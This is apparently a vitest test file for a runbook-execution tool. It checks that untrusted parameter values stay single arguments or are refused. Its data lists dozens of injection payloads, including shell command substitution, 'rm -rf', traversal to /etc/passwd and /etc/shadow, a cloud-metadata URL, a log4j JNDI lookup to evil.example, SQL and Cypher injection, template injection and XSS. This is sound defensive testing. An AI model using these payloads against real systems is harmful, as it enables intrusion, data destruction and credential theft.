import { spawnSync } from 'node:child_process';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { runbookFileSchema } from '@aiops/contracts';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loopbackServer } from '../../testing/loopback-server.ts';
import type { Target } from '../choose-target.ts';
import { planRun, suggestedParameters } from '../plan-run.ts';
import { readRunbooks } from '../read-runbooks.ts';
import { createExecuteStep } from './create-execute-step.ts';
import { targetArgv } from './target-argv.ts';

/**
 * Every value below is tried at every place in which a runbook may put one, for a parameter that allows almost anything, so that
 * it is the places that hold and not a pattern. Either the plan is refused, or a real process, a real shell behind ssh, a container
 * engine or a real server receives exactly this value and nothing else happens: no file appears among the canaries.
 */
let root: string;
let canaries: string;
let server: Awaited<ReturnType<typeof loopbackServer>>;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'injection-'));
  canaries = join(root, 'canaries');
  await mkdir(canaries);
  // A container engine that prints what it was called with.
  await writeFile(join(root, 'engine'), '#!/bin/sh\nfor word in "$@"; do printf "%s\\0" "$word"; done\n');
  await chmod(join(root, 'engine'), 0o755);
  server = await loopbackServer();
});
afterAll(async () => {
  server.close();
  await rm(root, { recursive: true });
});

/** Written so that this file does not look as if it forgot a template string. */
const X = `$\{x}`;
const never = new AbortController().signal;

const values: [what: string, value: string][] = [
  ['a second command', '; touch CANARY'],
  ['removal of everything', '; rm -rf CANARY/..'],
  ['a command after another', '&& touch CANARY'],
  ['a command instead of another', '|| touch CANARY'],
  ['a command in the background', '& touch CANARY'],
  ['a pipe', '| tee CANARY'],
  ['a substitution', '$(touch CANARY)'],
  ['a substitution by back quotes', '`touch CANARY`'],
  ['a substitution of a process', '<(touch CANARY)'],
  ['a redirection', '> CANARY'],
  ['an append', '>> CANARY'],
  ['a variable', '$HOME'],
  ['a variable in braces', '$\u007bPATH}'],
  ['an assignment before a command', 'IFS=x touch CANARY'],
  ['the end of a single quote', "'; touch CANARY; '"],
  ['the end of a double quote', '"; touch CANARY; "'],
  ['quotes that were quoted already', "'\\''; touch CANARY; '\\''"],
  ['a backslash at the end', 'a\\'],
  ['wildcards', '/etc/* ~root ?'],
  ['braces', '{a,b}{c,d}'],
  ['a history expansion', '!!'],
  ['a comment', '# rest'],
  ['spaces that would make two arguments', 'one two'],
  ['a tab', 'one\ttwo'],
  ['a path upwards', '../../../../etc/passwd'],
  ['a path upwards, encoded', '..%2f..%2fetc%2fpasswd'],
  ['a path upwards, encoded dots', '%2e%2e/%2e%2e/etc'],
  ['a path upwards, with backslashes', '..\\..\\windows'],
  ['an absolute path', '/etc/shadow'],
  ['another query parameter', 'a&admin=true'],
  ['a fragment', 'a#b'],
  ['another query', 'a?b=c'],
  ['another host', '@evil.example/'],
  ['another URL', 'http://169.254.169.254/latest/meta-data/'],
  ['Cypher that ends a text', "x'}) DETACH DELETE n //"],
  ['Cypher that is always true', "' OR 1=1 //"],
  ['SQL', "'; DROP TABLE users; --"],
  ['a LogQL selector', '"} or {job=~".+'],
  ['a template of JavaScript', '$\u007bprocess.exit(1)}'],
  ['a template of JavaScript that is a parameter', X],
  ['a template of Go', '{{ .Env.PASSWORD }}'],
  ['a template of Jinja', '{% for x in ().__class__.__base__.__subclasses__() %}'],
  ['a template of Ruby', '<%= `touch CANARY` %>'],
  ['a lookup of log4j', '$\u007bjndi:ldap://evil.example/a}'],
  ['JSON that ends a text', '","admin":true,"x":"'],
  ['HTML', '<script>alert(1)</script>'],
  ['a format', '%s%s%n %{(date)T}'],
  ['the prototype', '__proto__'],
  ['the constructor', 'constructor'],
  ['what exists on every object', 'toString'],
  ['text that reads from right to left', 'a\u202e txt.exe'],
  ['letters of another alphabet', 'раypal'],
  ['an escape of a terminal', '\u001b]0;title\u0007\u001b[2J'],
  ['an equals sign', 'a=b'],
];

/** Never good for anything, whatever the place. */
const refused: [what: string, value: unknown, problem: string][] = [
  ['a new line', 'a\ntouch CANARY', 'expected one line'],
  ['a carriage return', 'a\r\nX-Admin: true', 'expected one line'],
  ['a separator of lines', 'a\u2028b', 'expected one line'],
  ['a NUL', 'a\0b', 'expected one line'],
  ['a megabyte', 'a'.repeat(1024 * 1024), 'expected at most 2000 characters'],
  ['half of a character', 'a\ud800', 'valid Unicode'],
  ['an object', { toString: () => 'x' }, 'expected a text'],
  ['a list', ['x'], 'expected a text'],
  ['a number', 7, 'expected a text'],
];

/** Harmless characters that would become an option of the program, or another path. */
const misplaced: [what: string, place: 'argv' | 'path', value: string][] = [
  ['an option', 'argv', '--output=/etc/passwd'],
  ['a short option', 'argv', '-exec'],
  ['the end of options', 'argv', '--'],
  ['a minus', 'argv', '-'],
  ['an option of ssh', 'argv', '-oProxyCommand=touch CANARY'],
  ['nothing', 'argv', ''],
  ['the folder above', 'path', '..'],
  ['the folder itself', 'path', '.'],
  ['no part of a path', 'path', ''],
];

const steps = () => [
  { name: 'command', type: 'command', command: `printf '%s\\0' ${X}`, risk: 'read_only' },
  { name: 'argv', type: 'command', argv: ['printf', '%s\\0', X], risk: 'read_only' },
];
const requests = () => [
  {
    name: 'request',
    type: 'http_request',
    method: 'POST',
    url: `http://${server.host}/a/${X}/b?q=${X}&z=1`,
    body: { filter: { name: X }, list: [X] },
    risk: 'read_only',
  },
];

const container: Target = {
  name: 'shop',
  kind: 'container',
  entities: [],
  container: 'shop-1',
  engine: '',
  port: 22,
};

function planOf(list: object[], value: unknown, target = 'this_host') {
  const runbook = runbookFileSchema.parse({
    name: 'r',
    description: 'd',
    version: 1,
    conditions: { metric_name: 'm' },
    target,
    parameters: { x: { type: 'string', pattern: '^[^]*$', max_length: 2_000 } },
    steps: list,
  });
  const targets = [{ ...container, engine: join(root, 'engine') }];
  return planRun({
    runbook: { runbook, hash: 'h' },
    parameters: JSON.parse(JSON.stringify({ x: 0 }), (key, old) => (key === 'x' ? value : old)),
    incident: 'i',
    device: null,
    targets,
  });
}

async function outcomesOf(list: object[], value: string, target?: string) {
  const planned = planOf(list, value, target);
  if ('problems' in planned) throw new Error(planned.problems.join());
  const execute = createExecuteStep({
    targets: [{ ...container, engine: join(root, 'engine') }],
    allowHosts: [server.host],
    folder: root,
    secrets: [],
    now: () => 0,
  });
  const outcomes = [];
  for (const step of planned.plan.steps) outcomes.push(await execute(step, planned.plan.target, never));
  return outcomes;
}

describe.each(values)('%s', (_what, template) => {
  const real = () => template.replaceAll('CANARY', join(canaries, 'x'));

  test('is one argument of a process', async () => {
    for (const outcome of await outcomesOf(steps(), real())) {
      expect(outcome).toMatchObject({ status: 'done', output: `${real()}\0` });
    }
    expect(await readdir(canaries)).toEqual([]);
  });

  test('is one argument behind ssh, where a shell reads the line', async () => {
    const ssh: Target = { ...container, kind: 'ssh', host: 'h' };
    const line = targetArgv(ssh, ['printf', '%s\\0', real()], 5_000)?.at(-1) ?? '';
    const { stdout, status } = spawnSync('sh', ['-c', line], { encoding: 'utf8', cwd: canaries });
    expect([stdout, status]).toEqual([`${real()}\0`, 0]);
    expect(await readdir(canaries)).toEqual([]);
  });

  test('is one argument of a container engine', async () => {
    const [outcome] = await outcomesOf([steps()[1] ?? {}], real(), 'shop');
    expect(outcome?.output.split('\0').slice(0, -1)).toEqual([
      ...['exec', 'shop-1', 'timeout', '-k', '5', '60', 'printf', '%s\\0'],
      real(),
    ]);
    expect(await readdir(canaries)).toEqual([]);
  });

  test('is one part of an address and one text in a body', async () => {
    server.hits.length = 0;
    await outcomesOf(requests(), real());
    expect(server.hits).toHaveLength(1);
    const { url, body, headers } = server.hits[0]!;
    const asked = new URL(url, 'http://h');
    expect(asked.pathname.split('/').map(decodeURIComponent)).toEqual(['', 'a', real(), 'b']);
    expect([...asked.searchParams]).toEqual([
      ['q', real()],
      ['z', '1'],
    ]);
    expect(JSON.parse(body)).toEqual({ filter: { name: real() }, list: [real()] });
    expect(headers.host).toBe(server.host);
  });
});

test.each(refused)('%s is refused before anything runs', (_what, value, problem) => {
  for (const list of [steps(), requests()]) {
    expect(planOf(list, value)).toEqual({ problems: [expect.stringContaining(problem)] });
  }
});

test.each(misplaced)('%s is refused in a place of the kind %s', (_what, place, value) => {
  const planned = planOf(place === 'argv' ? steps() : requests(), value);
  expect('problems' in planned ? planned.problems.length : 0).toBeGreaterThan(0);
});

describe('the runbooks of this repository', async () => {
  const { loaded } = await readRunbooks(fileURLToPath(new URL('../../../../../runbooks', import.meta.url)));
  const parameters = loaded.flatMap(({ runbook }) =>
    Object.keys(runbook.parameters ?? {}).map((name) => [runbook.name, name] as const),
  );

  // Two of them are names that something may have, and are only dangerous for a reader who looks them up in an object.
  const hostile = [
    ...values.map(([, value]) => value),
    ...refused.map(([, value]) => value).filter((value) => typeof value === 'string'),
    ...misplaced.map(([, , value]) => value),
  ].filter((value) => !['constructor', 'toString'].includes(value));

  test.each(parameters)('%s takes none of the values above for %s', (name, parameter) => {
    const runbook = loaded.find((known) => known.runbook.name === name)!;
    for (const value of hostile) {
      const planned = planRun({
        runbook,
        parameters: { [parameter]: value },
        incident: 'i',
        device: null,
        targets: [],
      });
      expect(
        'problems' in planned && planned.problems.some((line) => line.startsWith(`parameters.${parameter}:`)),
      ).toBe(true);
    }
  });

  test('offer no hostile name of an entity as a value', () => {
    for (const value of hostile) {
      for (const { runbook } of loaded) expect(suggestedParameters(runbook, value)).toEqual({});
    }
  });
});

test('there are more than forty hostile values', async () => {
  expect(values.length + refused.length + misplaced.length).toBeGreaterThan(40);
  expect(await readFile(join(root, 'engine'), 'utf8')).toContain('printf');
});
